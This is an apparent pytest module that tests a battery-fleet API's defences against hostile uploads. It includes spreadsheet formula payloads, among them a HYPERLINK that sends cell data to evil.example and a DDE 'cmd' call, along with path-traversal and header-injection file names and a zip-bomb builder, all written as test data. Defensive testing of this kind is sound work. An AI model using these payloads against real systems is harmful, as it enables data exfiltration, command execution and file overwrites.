"""Hostile uploads: oversized, mistyped, path-named, zip bombs and spreadsheet formulas; each is
rejected, or stored inert and neutralised in every CSV the API exports."""

from __future__ import annotations

import csv
import io
import os
import uuid
import zipfile
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import psycopg
import pytest
from fastapi.testclient import TestClient

from packfleet.settings import Settings
from tests import factories
from tests.api.conftest import World, bearer, client, client_for, kept_pack_data_matches_the_packs, world

pytestmark = pytest.mark.chaos
__all__ = ["client", "client_for", "kept_pack_data_matches_the_packs", "world"]

FORMULAS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
)
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64


def _zip_bomb() -> bytes:
    """100 MiB of zeros in about 100 KiB."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("zeros.csv", b"\x00" * (100 * 2**20))
    return out.getvalue()


def _rejected(answer: Any) -> bool:
    return 400 <= answer.status_code < 500 and {"error", "details", "code"} <= set(answer.json())


def _packs_with(db: psycopg.Connection, prefix: str) -> int:
    return db.execute(
        "SELECT count(*) AS n FROM batteries WHERE serial_number LIKE %s", (f"{prefix}%",)
    ).fetchone()["n"]


# The upload caps are settings (PACKFLEET_API_MAX_CSV_BYTES, _MAX_DOCUMENT_BYTES): their defaults here.
MAX_CSV_BYTES = Settings.model_fields["api_max_csv_bytes"].default
MAX_DOCUMENT_BYTES = Settings.model_fields["api_max_document_bytes"].default


def test_hostile_csv_imports_are_rejected_whole(
    client: TestClient, world: World, db: psycopg.Connection
) -> None:
    admin = bearer(world.admin)
    prefix = f"UP{uuid.uuid4().hex[:6].upper()}"
    row = f"{prefix}000001,Model,Pune\n"
    oversized = ("asset_tag,model,location\n" + row * (MAX_CSV_BYTES // len(row) + 2)).encode()
    hostile = {
        "oversized": ("packs.csv", oversized, "text/csv"),
        "zip bomb": ("packs.csv", _zip_bomb(), "text/csv"),
        "zip bomb as zip": ("packs.zip", _zip_bomb(), "application/zip"),
        "an image": ("packs.csv", PNG, "image/png"),
        "utf-16": ("packs.csv", "asset_tag\r\nX1\r\n".encode("utf-16"), "text/csv"),
        "a path as its name": ("../../../../etc/cron.d/packs.csv", b"asset_tag,nope\nA,B\n", "text/csv"),
    }
    for name, upload in hostile.items():
        answer = client.post("/api/battery_pack", files={"file": upload}, headers=admin)
        assert _rejected(answer), f"{name}: {answer.status_code} {answer.text[:200]}"
    xml = client.post(
        "/api/battery_pack", content=b"<packs/>", headers={**admin, "Content-Type": "application/xml"}
    )
    assert _rejected(xml), xml.text
    assert _packs_with(db, prefix) == 0
    assert not Path("/etc/cron.d/packs.csv").exists()


def test_hostile_documents_are_rejected(client: TestClient, world: World, tmp_path: Path) -> None:
    url = f"/api/consumers/{world.consumer_a['id']}/documents"
    dealer = bearer(world.dealer_a_user)
    cases = {
        "oversized": ("id.pdf", b"%PDF-1.4\n" + b"0" * MAX_DOCUMENT_BYTES, "application/pdf"),
        "zip bomb": ("id.pdf", _zip_bomb(), "application/pdf"),
        "an executable called a photo": ("photo.png", b"MZ\x90\x00" + os.urandom(512), "image/png"),
        "html called a pdf": ("id.pdf", b"<html><script>alert(1)</script></html>", "application/pdf"),
        "a png declared as pdf": ("id.pdf", PNG, "application/pdf"),
        "empty": ("id.pdf", b"", "application/pdf"),
    }
    for name, upload in cases.items():
        answer = client.post(url, files={"file": upload}, data={"document_type": "photo"}, headers=dealer)
        assert _rejected(answer), f"{name}: {answer.status_code} {answer.text[:200]}"


def test_a_document_named_by_a_path_is_stored_under_its_digest(
    client: TestClient, world: World, tmp_path: Path
) -> None:
    url = f"/api/consumers/{world.consumer_a['id']}/documents"
    dealer = bearer(world.dealer_a_user)
    evil = '../../../tmp/owned"; x=".png\r\nSet-Cookie: a=b'
    answer = client.post(
        url,
        files={"file": (evil, PNG + os.urandom(8), "image/png")},
        data={"document_type": "photo"},
        headers=dealer,
    )
    assert answer.status_code == 201, answer.text
    document_id = answer.json()["document"]["id"]
    assert not Path("/tmp/owned").exists()
    stored = client.app.state.settings.documents_dir  # type: ignore[attr-defined]
    assert all(p.resolve().is_relative_to(Path(stored).resolve()) for p in Path(stored).rglob("*"))
    download = client.get(f"{url}/{document_id}/file", headers=dealer)
    assert download.status_code == 200
    disposition = download.headers["content-disposition"]
    assert "/" not in disposition and ".." not in disposition and "\n" not in disposition
    assert "set-cookie" not in {k.lower() for k in download.headers}


def _csv_exports(client: TestClient) -> list[str]:
    """Every route whose answer can be CSV, from the app's own OpenAPI document."""
    paths = client.app.openapi()["paths"]  # type: ignore[attr-defined]
    return [
        path
        for path, operations in paths.items()
        for op in operations.values()
        if any("text/csv" in (r.get("content") or {}) for r in op.get("responses", {}).values())
    ]


# How to call each CSV export for the battery carrying the formulas (new exports add theirs here).
EXPORT_CALLS = {
    "/api/telemetry/{serial}": lambda serial: (f"/api/telemetry/{serial}", {"format": "csv"}),
}


def test_formulas_in_uploads_are_neutralised_in_every_csv_export(
    client: TestClient, world: World, db: psycopg.Connection
) -> None:
    """Formula text goes in through the CSV import (and a serial that reads as one); no cell of any
    CSV the API exports starts a formula, while numbers (a negative current) stay numbers."""
    admin = bearer(world.admin)
    serial = f"-A1-{uuid.uuid4().hex[:6].upper()}"  # a legal serial a spreadsheet reads as a formula
    header = "asset_tag,model,location,manufacturer_name,casing\n"
    cells = [f'"{f.replace(chr(34), chr(34) * 2)}"' for f in FORMULAS[:4]]
    upload = header + f"{serial},{','.join(cells)}\n"
    answer = client.post(
        "/api/battery_pack", files={"file": ("packs.csv", upload, "text/csv")}, headers=admin
    )
    assert answer.status_code in (201, 400), answer.text
    if answer.status_code == 400:  # rejected: nothing stored
        factories.battery(db, serial=serial)
    battery = db.execute("SELECT id FROM batteries WHERE serial_number = %s", (serial,)).fetchone()
    now = datetime.now(UTC)
    db.execute(
        "INSERT INTO telemetry (battery_id, ts, voltage, current, soc) VALUES (%s, %s, 48.1, -3.5, 50)",
        (battery["id"], now - timedelta(minutes=5)),
    )
    exports = _csv_exports(client)
    assert exports, "the API exports no CSV any more: this test has nothing to check"
    unknown = [p for p in exports if p not in EXPORT_CALLS]
    assert not unknown, f"add how to call {unknown} to EXPORT_CALLS"
    for path in exports:
        url, params = EXPORT_CALLS[path](serial)
        got = client.get(url, params=params, headers=admin)
        assert got.status_code == 200, got.text
        rows = list(csv.reader(io.StringIO(got.text)))
        assert len(rows) > 1, f"{path}: no data rows to check"
        for cell in (c for row in rows for c in row):
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                float(cell)  # only a number may start so
